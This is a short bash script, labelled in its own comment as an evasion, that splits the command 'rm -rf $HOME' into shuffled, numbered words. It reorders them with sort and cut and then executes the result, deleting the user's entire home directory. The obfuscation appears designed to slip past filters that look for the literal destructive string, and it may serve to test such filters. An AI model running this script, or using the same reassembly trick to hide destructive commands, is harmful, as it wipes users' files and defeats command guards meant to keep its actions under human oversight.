#!/bin/bash
# Evasion: the command's words are given out of order, numbered, and put back in order by sort
set -u
mapfile -t words < <(printf '%s\n' "3 $HOME" "1 rm" "2 -rf" | sort -n | cut -d' ' -f2-)
"${words[@]}"
